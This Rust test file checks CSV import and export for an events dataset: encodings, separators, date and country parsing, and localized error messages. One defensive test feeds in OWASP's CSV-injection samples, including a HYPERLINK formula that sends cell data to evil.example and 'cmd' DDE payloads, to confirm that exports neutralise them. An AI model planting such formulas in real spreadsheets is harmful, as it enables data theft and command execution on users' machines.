//! Tables as datasets: the bundled events survive export → spreadsheet → import, every
//! encoding, separator and quoting that spreadsheet programs write reads the same, and each
//! problem is told by row and column.

use cooperation_atlas::domain::dataset::table::{self, COLUMNS};
use cooperation_atlas::domain::dataset::{Dataset, DatasetError, Opened, Place};
use cooperation_atlas::domain::export::csv;
use cooperation_atlas::domain::export::ExportContext;
use cooperation_atlas::domain::i18n::Locale;
use cooperation_atlas::domain::model::{Event, Mode};
use cooperation_atlas::BUNDLED_DATASET_JSON;

fn bundled() -> Dataset {
    Dataset::from_json(BUNDLED_DATASET_JSON).unwrap()
}

fn read(bytes: impl Into<Vec<u8>>) -> Result<Opened, DatasetError> {
    let known = bundled();
    table::read(
        bytes.into(),
        "test.csv",
        (known.organizations(), known.topics()),
    )
}

fn problems(bytes: impl Into<Vec<u8>>, locale: Locale) -> Vec<String> {
    match read(bytes) {
        Err(DatasetError::Invalid(problems)) => {
            problems.iter().map(|p| p.describe(locale)).collect()
        }
        other => panic!("expected problems, got {other:?}"),
    }
}

fn first_event(text: &str) -> Event {
    read(text).unwrap().dataset.events()[0].as_ref().clone()
}

fn export(dataset: &Dataset, locale: Locale) -> String {
    let link = |id: &str| format!("https://atlas.example/?event={id}");
    let context = ExportContext {
        dataset,
        locale,
        link: &link,
    };
    let all: Vec<usize> = (0..dataset.events().len()).collect();
    csv::table(&context, &all)
}

/// Every field the columns carry, as the imported event has it.
fn carried(event: &Event, dataset: &Dataset) -> String {
    let venue = event.venue.as_ref().map(|v| {
        format!(
            "{} | {} | {} | {} | {}",
            v.name, v.city, v.country, v.lat, v.lon
        )
    });
    format!(
        "{} | {:?} | {} | {:?} | {:?} | {:?} | {:?} | {:?} | {:?}",
        event.id,
        event.title,
        event.span.start,
        event.span.end,
        event.mode,
        venue,
        event.countries,
        event.organizations,
        event.topics,
    ) + &format!(" | {}", dataset.events().len())
}

#[test]
fn the_bundled_events_come_back_from_their_export_field_by_field() {
    let original = bundled();
    for locale in Locale::ALL {
        let text = export(&original, locale);
        let imported = read(text).unwrap_or_else(|e| panic!("{locale:?}: {e}"));
        assert!(imported.ignored_columns.is_empty());
        let dataset = imported.dataset;
        assert_eq!(dataset.events().len(), original.events().len());
        for event in original.events() {
            let back = dataset.event(&event.id).expect("the same ids");
            assert_eq!(
                carried(back, &dataset),
                carried(event, &original),
                "{locale:?}"
            );
            // The summary column holds the summary in the export's language.
            let written = match (locale, &event.summary.zh) {
                (Locale::En, _) | (_, None) => &event.summary.en,
                (_, Some(zh)) => zh,
            };
            assert!(back.summary.texts().any(|t| t == written), "{}", event.id);
        }
        // No organization or topic was made anew: each name matched a bundled one.
        for organization in dataset.organizations() {
            assert_eq!(original.organization(&organization.id), Some(organization));
        }
        for topic in dataset.topics() {
            assert_eq!(original.topic(&topic.id), Some(topic));
        }
    }
}

/// Titles and summaries a hostile file could plant (OWASP's CSV injection examples).
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1 in the summary",
    "'=written as text by hand",
];

#[test]
fn formula_cells_are_written_as_text_and_read_back_as_they_were() {
    let mut text =
        String::from("id,title_en,start,countries,summary,latitude,longitude,city,country\n");
    for (i, formula) in FORMULAS.iter().enumerate() {
        let quoted = format!("\"{}\"", formula.replace('"', "\"\""));
        text += &format!("e{i},{quoted},2024-05-2{i},CN,{quoted},-33.86,-151.2,Sydney,AU\n");
    }
    let dataset = read(text).unwrap().dataset;
    let exported = export(&dataset, Locale::En);
    // Every cell of the export that starts like a formula is a plain number.
    let mut reader = ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(exported.trim_start_matches('\u{FEFF}').as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !live || cell.parse::<f64>().is_ok(),
                "a live formula: {cell:?}"
            );
        }
    }
    let back = read(exported).unwrap().dataset;
    for event in dataset.events() {
        let again = back.event(&event.id).unwrap();
        assert_eq!(again.title, event.title);
        assert_eq!(again.summary, event.summary);
        assert_eq!(carried(again, &back), carried(event, &dataset));
    }
    assert_eq!(back.events().len(), FORMULAS.len());
}

/// A small table with a quoted title holding a separator, a doubled quote and a line break.
const ROWS: [[&str; 6]; 2] = [
    [
        "id",
        "title_en",
        "start",
        "countries",
        "organizations",
        "latitude",
    ],
    [
        "a",
        "Talks, \"round two\"\nin Lanxi",
        "2024-05-26",
        "CN; DE",
        "CAS; Lanxi Magnesium Lab",
        "",
    ],
];

fn write(separator: &str, line_end: &str) -> String {
    ROWS.iter()
        .map(|row| {
            row.iter()
                .map(|cell| {
                    if cell.contains([',', ';', '\t', '"', '\n']) {
                        format!("\"{}\"", cell.replace('"', "\"\""))
                    } else {
                        cell.to_string()
                    }
                })
                .collect::<Vec<_>>()
                .join(separator)
        })
        .map(|line| line + line_end)
        .collect()
}

fn utf16(text: &str, little_endian: bool) -> Vec<u8> {
    let mut bytes = if little_endian {
        vec![0xFF, 0xFE]
    } else {
        vec![0xFE, 0xFF]
    };
    for unit in text.encode_utf16() {
        bytes.extend(if little_endian {
            unit.to_le_bytes()
        } else {
            unit.to_be_bytes()
        });
    }
    bytes
}

#[test]
fn every_encoding_separator_and_line_end_reads_the_same() {
    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
    for (separator, name) in [(",", "comma"), (";", "semicolon"), ("\t", "tab")] {
        for line_end in ["\r\n", "\n"] {
            let text = write(separator, line_end);
            let label = format!("{name} {line_end:?}");
            files.push((format!("{label} UTF-8"), text.clone().into_bytes()));
            files.push((
                format!("{label} UTF-8 with a mark"),
                [b"\xEF\xBB\xBF".as_slice(), text.as_bytes()].concat(),
            ));
            files.push((format!("{label} UTF-16LE"), utf16(&text, true)));
            files.push((format!("{label} UTF-16BE"), utf16(&text, false)));
        }
    }
    for (label, bytes) in files {
        let dataset = read(bytes)
            .unwrap_or_else(|e| panic!("{label}: {e}"))
            .dataset;
        let event = &dataset.events()[0];
        assert_eq!(event.title.en, "Talks, \"round two\"\nin Lanxi", "{label}");
        assert_eq!(event.countries, ["CN", "DE"], "{label}");
        assert_eq!(event.span.start.to_string(), "2024-05-26", "{label}");
        assert_eq!(
            event.mode,
            Mode::Online,
            "{label}: no place, no mode: online"
        );
        assert_eq!(
            event.organizations,
            ["cas", "lanxi-magnesium-lab"],
            "{label}"
        );
        let made = dataset.organization("lanxi-magnesium-lab").unwrap();
        assert_eq!(made.name.en, "Lanxi Magnesium Lab");
    }
}

#[test]
fn columns_come_in_any_order_unknown_ones_are_named_and_optional_ones_may_be_missing() {
    let text = "Notes,countries,START,Title_EN,Owner\r\nsee minutes,fr,2023/5/1,Visit,Li\r\n";
    let imported = read(text).unwrap();
    assert_eq!(imported.ignored_columns, ["Notes", "Owner"]);
    let event = &imported.dataset.events()[0];
    assert_eq!(
        event.id, "2023-05-01-visit",
        "an id made from the start and title"
    );
    assert_eq!(event.countries, ["FR"]);
    assert!(event.source.is_none() && event.summary.en.is_empty());
}

#[test]
fn a_chinese_only_title_and_chinese_dates_are_read() {
    let text = "title_zh,start,end,countries,mode,latitude,longitude,city,country\n\
                华为中德联合研讨会,2024年5月26日,2024年5月27日,CN;DE,,52.52,13.40,Berlin,de\n";
    let event = first_event(text);
    assert_eq!(event.title.en, "华为中德联合研讨会");
    assert_eq!(event.title.zh.as_deref(), Some("华为中德联合研讨会"));
    assert_eq!(event.span.end.unwrap().to_string(), "2024-05-27");
    assert_eq!(event.mode, Mode::InPerson, "a place and no mode: in person");
    assert_eq!(event.venue.as_ref().unwrap().country, "DE");
    assert!(event.id.starts_with("2024-05-26-event-"), "{}", event.id);
}

#[test]
fn a_month_that_excel_padded_to_its_first_day_is_a_month_again() {
    let text = "title_en,start,precision,countries\nSummit,2023-05-01 00:00:00,month,CN\n";
    let event = first_event(text);
    assert_eq!(event.span.start.to_string(), "2023-05");
}

#[test]
fn every_problem_is_told_by_row_and_column() {
    let text = "id,title_en,start,end,mode,latitude,longitude,city,country,countries,precision\n\
                a,Fine,2024-05-26,,,,,,,CN,\n\
                b,Leap,2024-02-30,,,,,,,CN,\n\
                c,Order,26/05/2024,,boat,abc,10,Lyon,FR,UK,weekly\n\
                a,Again,2024-06-01,2024-05-01,online,45.7,4.8,Lyon,FR,CN,\n\
                d,Half,2024,,in_person,45.7,,Lyon,FR,CN,\n";
    let told = problems(text, Locale::En);
    let expected = [
        "row 3, column start: \"2024-02-30\": month 2 of 2024 has 29 days",
        "row 4, column start: \"26/05/2024\" puts the year last",
        "row 4, column precision: \"weekly\" is not a precision",
        "row 4, column mode: \"boat\" is not a mode",
        "row 4, column latitude: \"abc\" is not a number",
        "row 4, column countries: \"UK\" is not an ISO 3166-1 alpha-2 country code (use \"GB\")",
        "row 5, column id: duplicate id \"a\"",
        "row 5, column end: 2024-05-01 is before the start 2024-06-01",
        "row 5, column latitude: an online event has no place",
        "row 6, column longitude: give both latitude and longitude",
    ];
    for line in expected {
        assert!(
            told.iter().any(|t| t.starts_with(line)),
            "missing {line:?} in {told:#?}"
        );
    }
    assert_eq!(told.len(), expected.len(), "{told:#?}");
    // In row order, and a bad date is told once, not again by the dataset's rules.
    assert!(told[0].starts_with("row 3"));
}

#[test]
fn problems_are_told_in_the_readers_language() {
    let text = "title_en,start,countries\nLeap,2024-02-30,CN\n";
    let told = problems(text, Locale::ZhHans);
    assert_eq!(
        told,
        ["第 2 行，start 列：“2024-02-30”：2024年2月只有 29 天"]
    );
    let told = problems(text, Locale::ZhHant);
    assert!(told[0].starts_with("第 2 列，start 欄："), "{told:?}");
}

#[test]
fn missing_columns_and_other_encodings_are_refused_with_what_to_do() {
    let told = problems("id,title,date\na,b,2024\n", Locale::En);
    for column in ["start", "countries", "title_en"] {
        assert!(
            told.contains(&format!(
                "row 1, column {column}: the column is missing: the first row must name the columns, as in the template"
            )),
            "{told:#?}"
        );
    }
    match read(b"title_en,start,countries\nCaf\xE9,2024,FR\n".to_vec()) {
        Err(DatasetError::Unreadable(message)) => {
            assert!(message.text(Locale::En).contains("CSV UTF-8"))
        }
        other => panic!("expected an encoding error, got {other:?}"),
    }
}

#[test]
fn the_template_opens_as_two_events() {
    let template = csv::template();
    assert!(template.starts_with('\u{FEFF}'));
    assert!(template.contains(&COLUMNS.join(",")));
    let dataset = read(template).unwrap().dataset;
    assert_eq!(dataset.events().len(), 2);
    let online = dataset.event("example-hydrogen-seminar-2025").unwrap();
    assert_eq!(online.mode, Mode::Online);
    assert_eq!(online.span.start.to_string(), "2025-09");
    assert_eq!(
        online.organizations,
        ["cast", "rusea", "tomsk-polytechnic-university"]
    );
    let workshop = dataset.event("example-battery-workshop-2025").unwrap();
    assert_eq!(workshop.topics, ["materials-science", "energy-low-carbon"]);
    let made = dataset
        .organization("tomsk-polytechnic-university")
        .unwrap();
    assert_eq!(made.country, None, "a new organization has only its name");
}

#[test]
fn a_file_is_a_table_by_its_name_or_by_not_starting_like_json() {
    assert!(table::is_table("events.CSV", b"{"));
    assert!(table::is_table("data/events.tsv?v=2", b""));
    assert!(!table::is_table("events.json", b"id,title"));
    assert!(!table::is_table(
        "events",
        b"\xEF\xBB\xBF  {\"events\": []}"
    ));
    assert!(table::is_table("events", b"id,title_en"));
}

#[test]
fn a_problem_in_a_json_file_keeps_its_event_and_field_and_both_formats_may_leave_out_the_source() {
    let event = |countries: &str| {
        format!(
            r#"{{"events": [{{"id": "x", "title": {{"en": "X"}}, "start": "2024", "mode": "online",
            "countries": [{countries}]}}]}}"#
        )
    };
    let valid = Dataset::from_json(&event("\"CN\"")).unwrap();
    assert!(valid.events()[0].source.is_none());
    match Dataset::from_json(&event("\"CN\", \"UK\"")) {
        Err(DatasetError::Invalid(problems)) => assert!(matches!(
            &problems[0].place,
            Place::Event { index: 0, id, field } if id == "x" && field == "countries[1]"
        )),
        other => panic!("expected the bad country, got {other:?}"),
    }
}

#[test]
fn a_column_named_twice_a_place_without_its_country_and_a_word_for_a_date_are_told() {
    let text = "title_en,start,countries,countries,latitude,longitude,city\n\
                Visit,next spring,CN,,31.2,121.5,Shanghai\n";
    let told = problems(text, Locale::En);
    assert_eq!(
        told,
        [
            "row 1, column countries: the column is named twice",
            "row 2, column start: \"next spring\" is not a date: write 2024-05-26, 2024/5/26 or 2024年5月26日, or 2024-05 and 2024 when only the month or the year is known",
            "row 2, column country: must not be empty",
        ]
    );
}

// Issue #28: countries written as names, or parted by `；`, `、` or a quoted comma, were
// refused as "not an ISO 3166-1 two-letter code".
#[test]
fn countries_as_names_in_each_language_and_each_separator_read_as_codes() {
    let text = "title_en,start,countries,latitude,longitude,city,country\n\
                A,2024-05-01,中国；法国,48.57,7.75,Strasbourg,法国\n\
                B,2024-05-02,中國、法國,,,,\n\
                C,2024-05-03,\"China, France\",,,,\n\
                D,2024-05-04,cn/ＦＲ,,,,\n\
                E,2024-05-05,\"CN,FR\",,,,\n\
                F,2024-05-06,ＣＨＩＮＡ；france,48.57,7.75,Strasbourg,France\n";
    let dataset = read(text).unwrap().dataset;
    assert_eq!(dataset.events().len(), 6);
    for event in dataset.events() {
        assert_eq!(event.countries, ["CN", "FR"], "{}", event.title.en);
        if let Some(venue) = &event.venue {
            assert_eq!(venue.country, "FR", "{}", event.title.en);
        }
    }
}

#[test]
fn organizations_and_topics_are_parted_where_the_separator_is_unambiguous() {
    let text = "title_en,start,countries,organizations,topics\n\
                A,2024-05-01,CN,中国科学院、CNRS,Materials science；Physics\n\
                B,2024-05-02,CN,\"CAS, CNRS\",\n\
                C,2024-05-03,CN,\"Shanghai Advanced Research Institute, CAS\",\n\
                D,2024-05-04,CN,\"University of Atlantis, Poseidon Campus; CAS\",\n";
    let dataset = read(text).unwrap().dataset;
    let organizations = |i: usize| dataset.events()[i].organizations.clone();
    let bundled = bundled();
    let id_of = |abbr: &str| {
        bundled
            .organizations()
            .iter()
            .find(|o| o.abbr.as_deref() == Some(abbr))
            .map(|o| o.id.clone())
            .unwrap()
    };
    let (cas, cnrs) = (id_of("CAS"), id_of("CNRS"));
    assert_eq!(organizations(0), [cas.clone(), cnrs.clone()]);
    assert_eq!(organizations(1), [cas.clone(), cnrs]);
    // A name that holds a comma stays one name, known or not.
    assert_eq!(organizations(2).len(), 1);
    assert_ne!(organizations(2)[0], cas);
    assert_eq!(
        organizations(3),
        ["university-of-atlantis-poseidon-campus".to_string(), cas]
    );
    assert_eq!(dataset.events()[0].topics.len(), 2);
}

#[test]
fn a_country_that_cannot_be_read_names_the_separator_and_the_closest_country() {
    let text = "title_en,start,countries,latitude,longitude,city,country\n\
                A,2024-05-01,中国；Frnace,,,,\n\
                B,2024-05-02,\"CN, Atlantis\",,,,\n\
                C,2024-05-03,中国 法国,,,,\n\
                D,2024-05-04,CN,48.57,7.75,Strasbourg,Frace\n";
    assert_eq!(
        problems(text, Locale::En),
        [
            "row 2, column countries: the cell was read as 2 countries separated by \"；\", and \
             \"Frnace\" is neither a two-letter ISO 3166-1 country code nor a country name; did \
             you mean \"France\" (FR)?",
            "row 3, column countries: the cell was read as 2 countries separated by \",\", and \
             \"Atlantis\" is neither a two-letter ISO 3166-1 country code nor a country name",
            "row 4, column countries: \"中国 法国\" is neither a two-letter ISO 3166-1 country code \
             nor a country name; to list several countries, separate them with semicolons (; or ；), the list \
             comma 、, commas or slashes (/)",
            "row 5, column country: \"Frace\" is neither a two-letter ISO 3166-1 country code nor \
             a country name; did you mean \"France\" (FR)?",
        ]
    );
    let told = problems(text, Locale::ZhHans);
    assert_eq!(
        told[0],
        "第 2 行，countries 列：此格按“；”分成 2 个国家/地区，其中“Frnace”既不是 ISO 3166-1 \
         两字母国家/地区代码，也不是国家/地区名称；是否指“France”（FR）？"
    );
    let told = problems(text, Locale::ZhHant);
    assert!(
        told[0].contains("此格按「；」分成 2 個國家/地區"),
        "{told:?}"
    );
}
